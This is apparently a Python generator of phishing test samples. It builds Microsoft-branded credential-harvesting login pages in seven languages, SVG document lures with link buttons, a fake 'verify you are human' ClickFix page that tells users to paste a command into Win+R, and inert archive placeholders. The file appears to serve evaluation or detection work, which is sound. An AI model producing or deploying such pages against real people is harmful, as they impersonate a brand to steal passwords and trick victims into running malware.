"""Attachment bodies: credential-phishing HTML pages (static forms, no script), SVG lures
(links only, no script), ClickFix page (instructions as text only), inert archive placeholders."""
import html

PLACEHOLDER = b"INERT PLACEHOLDER - evaluation sample, not executable, contains no code.\r\n"


def placeholder(name):
    return PLACEHOLDER


def login_page(lang, brand_title, doc_label, email, action, hidden=None, note=None, logo_text="Microsoft",
               heading=None, button=None, pw_label=None, charset="utf-8"):
    T = {
        "de": ("Anmelden", "Kennwort", "Anmelden", "Um dieses Dokument anzuzeigen, bestätigen Sie bitte Ihr Konto."),
        "en": ("Sign in", "Password", "Sign in", "To view this document, please verify your account."),
        "el": ("Σύνδεση", "Κωδικός πρόσβασης", "Σύνδεση", "Για να δείτε το έγγραφο, επιβεβαιώστε τον λογαριασμό σας."),
        "pl": ("Zaloguj się", "Hasło", "Zaloguj", "Aby wyświetlić dokument, potwierdź swoje konto."),
        "it": ("Accedi", "Password", "Accedi", "Per visualizzare il documento, verifica il tuo account."),
        "es": ("Iniciar sesión", "Contraseña", "Iniciar sesión", "Para ver este documento, verifique su cuenta."),
        "ru": ("Вход", "Пароль", "Войти", "Чтобы просмотреть документ, подтвердите учётную запись."),
    }[lang]
    heading = heading or T[0]
    button = button or T[2]
    pw_label = pw_label or T[1]
    note = note or T[3]
    hid = "".join('\n      <input type="hidden" name="%s" value="%s">' % (k, html.escape(v)) for k, v in (hidden or {}).items())
    page = """<!DOCTYPE html>
<html lang="%(lang)s">
<head>
<meta charset="%(cs)s">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>%(title)s</title>
<style>
 body{margin:0;background:#f2f2f2;font-family:"Segoe UI",Arial,sans-serif}
 .box{width:380px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
 .logo{font-size:20px;color:#5e5e5e;font-weight:600;margin-bottom:16px}
 .doc{border:1px solid #e1e1e1;padding:10px;margin:12px 0;font-size:13px;color:#323130}
 h1{font-size:24px;font-weight:600;color:#1b1b1b;margin:8px 0}
 input[type=email],input[type=password]{width:100%%;border:none;border-bottom:1px solid #666;padding:6px 0;margin:10px 0;font-size:15px}
 button{background:#0067b8;color:#fff;border:none;padding:8px 32px;font-size:15px;float:right}
 p{font-size:13px;color:#605e5c}
</style>
</head>
<body>
<div class="box">
  <div class="logo">%(logo)s</div>
  <h1>%(heading)s</h1>
  <p>%(note)s</p>
  <div class="doc">&#128196; %(doc)s</div>
  <form method="POST" action="%(action)s">%(hid)s
      <input type="email" name="login" value="%(email)s">
      <input type="password" name="passwd" placeholder="%(pw)s">
      <button type="submit">%(button)s</button>
  </form>
</div>
</body>
</html>
""" % dict(lang=lang, cs=charset, title=html.escape(brand_title), logo=html.escape(logo_text), heading=html.escape(heading),
           note=html.escape(note), doc=html.escape(doc_label), action=html.escape(action), hid=hid,
           email=html.escape(email), pw=html.escape(pw_label), button=html.escape(button))
    return page


def svg_lure(lines, button, url, width=620, height=420, header="", accent="#00703c"):
    """A document-looking SVG whose only active element is an <a> link (no script)."""
    y = 120
    texts = []
    for ln in lines:
        weight = "bold" if ln.startswith("**") else "normal"
        t = ln.lstrip("*")
        texts.append('  <text x="40" y="%d" font-family="Arial, Helvetica, sans-serif" font-size="15" font-weight="%s" fill="#0b0c0c">%s</text>'
                     % (y, weight, html.escape(t)))
        y += 26
    by = y + 20
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="%(w)d" height="%(h)d" viewBox="0 0 %(w)d %(h)d">
  <rect width="100%%" height="100%%" fill="#ffffff"/>
  <rect x="0" y="0" width="%(w)d" height="70" fill="%(accent)s"/>
  <text x="40" y="44" font-family="Arial, Helvetica, sans-serif" font-size="22" font-weight="bold" fill="#ffffff">%(header)s</text>
%(texts)s
  <a xlink:href="%(url)s" href="%(url)s" target="_blank">
    <rect x="40" y="%(by)d" width="260" height="44" rx="4" fill="%(accent)s"/>
    <text x="170" y="%(ty)d" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="16" font-weight="bold" fill="#ffffff">%(button)s</text>
  </a>
</svg>
""" % dict(w=width, h=max(height, by + 80), accent=accent, header=html.escape(header), texts="\n".join(texts),
           url=html.escape(url), by=by, ty=by + 28, button=html.escape(button))
    return svg


def clickfix_page(title, steps_intro, steps, command, footer):
    """Fake human-verification page that instructs the user to paste a command into Win+R.
    Static text only: no script, no clipboard access."""
    items = "\n".join("      <li>%s</li>" % html.escape(s) for s in steps)
    return """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>%(title)s</title>
<style>
 body{font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#fff;color:#313131;margin:0}
 .wrap{max-width:640px;margin:70px auto;padding:0 24px}
 h1{font-size:28px;font-weight:500}
 .cf{border:1px solid #d9d9d9;border-radius:4px;padding:18px;margin:24px 0;background:#fafafa}
 code{display:block;background:#1e1e1e;color:#d4d4d4;padding:10px;font-size:12px;word-break:break-all}
 .ray{font-size:12px;color:#8a8a8a;margin-top:40px}
</style>
</head>
<body>
<div class="wrap">
  <h1>%(title)s</h1>
  <div class="cf">
    <p><b>&#9745; Verify you are human</b></p>
    <p>%(intro)s</p>
    <ol>
%(items)s
    </ol>
    <p>Verification code:</p>
    <code>%(cmd)s</code>
  </div>
  <div class="ray">%(footer)s</div>
</div>
</body>
</html>
""" % dict(title=html.escape(title), intro=html.escape(steps_intro), items=items, cmd=html.escape(command),
           footer=html.escape(footer))
